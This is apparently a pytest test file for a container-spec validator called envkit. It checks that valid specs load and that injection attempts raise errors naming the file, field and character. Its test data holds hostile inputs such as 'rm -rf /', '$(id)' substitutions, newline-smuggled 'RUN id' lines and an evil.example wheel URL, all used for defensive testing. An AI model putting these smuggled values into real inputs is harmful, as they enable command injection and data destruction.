"""Spec validation: good specs load, every injection attempt is a spec error naming file, field, char."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from envkit.errors import SpecError
from envkit.spec.model import load_spec, parse_spec

GOOD = {
    "name": "pytorch-cuda",
    "tag": "2.8",
    "base": {"bootstrap": {"suite": "bookworm"}},
    "python": "3.11",
    "torch": {"version": "2.8.0", "cuda": "12.8"},
    "torchvision": "0.23.0",
    "pip": ["ultralytics==8.3.0", "numpy>=1.26,<3"],
    "apt": ["git", "libgl1=1.6.0-1"],
    "env": {"OMP_NUM_THREADS": "8", "HF_HOME": "/workspace/.cache/hf"},
    "labels": {"com.example.team": "vision"},
}


def test_good_spec_loads_and_digest_is_stable() -> None:
    spec = parse_spec(GOOD, "good.yaml")
    again = parse_spec(dict(GOOD), "good.yaml")
    assert spec.ref == "pytorch-cuda:2.8"
    assert spec.image_tag == "envkit/pytorch-cuda:2.8"
    assert spec.digest() == again.digest()
    assert spec.digest().startswith("sha256:")
    changed = parse_spec({**GOOD, "pip": ["ultralytics==8.3.1"]}, "good.yaml")
    assert changed.digest() != spec.digest()


INJECTIONS = [
    ("pip", ["torch==2.8.0; rm -rf /"], "pip[0]", "';'"),
    ("pip", ["torch`id`"], "pip[0]", "'`'"),
    ("pip", ["torch==$(id)"], "pip[0]", "'$('"),
    ("pip", ["torch|sh"], "pip[0]", "'|'"),
    ("pip", ["ok==1", "torch\nRUN id"], "pip[1]", "newline"),
    ("pip", ["torch @ https://evil.example/t.whl"], "pip[0]", "'@'"),
    ("apt", ["curl;id"], "apt[0]", "';'"),
    ("apt", ["curl && id"], "apt[0]", "space"),
    ("apt", ["curl$(id)"], "apt[0]", "'$('"),
    ("env", {"A": "x`id`"}, "env", "'`'"),
    ("env", {"A": "x\nRUN id"}, "env", "newline"),
    ("env", {"A": "$(id)"}, "env", "'$('"),
    ("env", {"A": 'x" && id'}, "env", "'\"'"),
    ("env", {"A;B": "x"}, "env", "';'"),
    ("labels", {"a": "x|y"}, "labels", "'|'"),
    ("labels", {"a b": "x"}, "labels", "space"),
    ("description", "nice; rm -rf /", "description", "';'"),
    ("name", "x;y", "name", "';'"),
    ("tag", "2.8`", "tag", "'`'"),
    ("python", "3.11;", "python", "';'"),
    ("torchvision", "0.23.0|x", "torchvision", "'|'"),
]


@pytest.mark.parametrize(("field", "value", "where", "char"), INJECTIONS)
def test_injection_is_a_spec_error_naming_file_field_and_char(
    field: str, value: object, where: str, char: str
) -> None:
    with pytest.raises(SpecError) as info:
        parse_spec({**GOOD, field: value}, "images/x/1.yaml")
    message = str(info.value)
    assert message.startswith(f"images/x/1.yaml: {where}"), message
    assert char in message, message
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    ("patch", "where"),
    [
        ({"torch": {"version": "2.8.0; id", "cuda": "12.8"}}, "torch.version"),
        ({"torch": {"version": "2.8.0", "cuda": "12.8`"}}, "torch.cuda"),
        ({"base": {"bootstrap": {"suite": "bookworm", "mirror": "http://x/$(id)"}}}, "base.bootstrap.mirror"),
        ({"base": {"bootstrap": {"suite": "book worm"}}}, "base.bootstrap.suite"),
        ({"base": {"image": "debian:bookworm"}}, "base.image"),
        ({"base": {"image": "debian@sha256:" + "a" * 64 + ";id"}}, "base.image"),
        ({"base": {}}, "base"),
        ({"user": {"name": "root;", "uid": 1000}}, "user.name"),
        ({"user": {"name": "envkit", "uid": 0}}, "user.uid"),
        ({"unexpected": 1}, "unexpected"),
    ],
)
def test_nested_fields_are_checked(patch: dict[str, object], where: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_spec({**GOOD, **patch}, "s.yaml")
    assert str(info.value).startswith(f"s.yaml: {where}"), str(info.value)


def test_digest_pinned_registry_base_is_accepted() -> None:
    spec = parse_spec({**GOOD, "base": {"image": "nvidia/cuda@sha256:" + "b" * 64}}, "s.yaml")
    assert spec.base.image is not None and spec.base.bootstrap is None


def test_missing_required_field_is_named(tmp_path: Path) -> None:
    data = dict(GOOD)
    del data["torch"]
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(SpecError, match=r"s\.yaml: torch: required field is missing"):
        load_spec(path, display="s.yaml")


def test_bad_yaml_is_a_spec_error(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text("name: [unclosed\n")
    with pytest.raises(SpecError, match="not valid YAML"):
        load_spec(path)


@pytest.mark.parametrize("key", ["io.envkit.managed", "io.envkit.state-dir", "io.envkit"])
def test_spec_refuses_reserved_io_envkit_labels(key: str) -> None:
    with pytest.raises(SpecError, match="reserved") as caught:
        parse_spec({**GOOD, "labels": {key: "x"}}, "s.yaml")
    assert caught.value.exit_code == 2 and "labels" in str(caught.value)


@pytest.mark.parametrize(
    "patch",
    [
        {"env": {"A\n": "x"}},
        {"labels": {"com.example\n": "x"}},
        {"base": {"bootstrap": {"suite": "bookworm\n"}}},
        {"python": "3.11\n"},
        {"torchvision": "0.23.0\n"},
        {"torch": {"version": "2.8.0\n", "cuda": "12.8"}},
        {"torch": {"version": "2.8.0", "cuda": "12.8\n"}},
        {"tag": "2.8\n"},
        {"name": "pytorch-cuda\n"},
        {"user": {"name": "envkit\n"}},
    ],
)
def test_spec_refuses_a_trailing_newline_that_dollar_anchors_accepted(patch: dict[str, object]) -> None:
    with pytest.raises(SpecError):
        parse_spec({**GOOD, **patch}, "s.yaml")


def test_spec_refuses_duplicate_yaml_keys(tmp_path: Path) -> None:
    path = tmp_path / "dup.yaml"
    path.write_text(yaml.safe_dump(GOOD) + "python: '3.12'\n")
    with pytest.raises(SpecError, match="duplicate key 'python'") as caught:
        load_spec(path)
    assert str(path) in str(caught.value)


def test_spec_refuses_non_utf8_bytes(tmp_path: Path) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes(yaml.safe_dump(GOOD).encode() + b"description: caf\xe9\n")
    with pytest.raises(SpecError, match="not UTF-8") as caught:
        load_spec(path)
    assert caught.value.exit_code == 2


def test_spec_refuses_deeply_nested_yaml(tmp_path: Path) -> None:
    path = tmp_path / "deep.yaml"
    path.write_text("env: " + "[" * 20000 + "]" * 20000 + "\n")
    with pytest.raises(SpecError):
        load_spec(path)


def test_spec_refuses_yaml_aliases(tmp_path: Path) -> None:
    path = tmp_path / "alias.yaml"
    path.write_text("a: &x [1, 2]\nb: [*x, *x, *x]\n")
    with pytest.raises(SpecError, match="anchors and aliases are not allowed"):
        load_spec(path)


def test_a_local_file_named_like_a_catalog_entry_does_not_shadow_the_catalog(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from envkit.spec.catalog import load

    data = {**GOOD, "description": "shadow"}
    (tmp_path / "pytorch-cuda:2.8").write_text(yaml.safe_dump(data))
    monkeypatch.chdir(tmp_path)
    assert load("pytorch-cuda:2.8").spec.description != "shadow"
    assert load("./pytorch-cuda:2.8").spec.description == "shadow"


def test_spec_cli_errors_are_exit_2_never_1(tmp_path: Path) -> None:
    from envkit.cli import app as cli_module

    for name, body in [("a.yaml", b"\xff\xfe"), ("b.yaml", b"a: 1\na: 2\n"), ("c.yaml", b"[" * 50000)]:
        path = tmp_path / name
        path.write_bytes(body)
        assert cli_module.main(["render", str(path)]) == 2
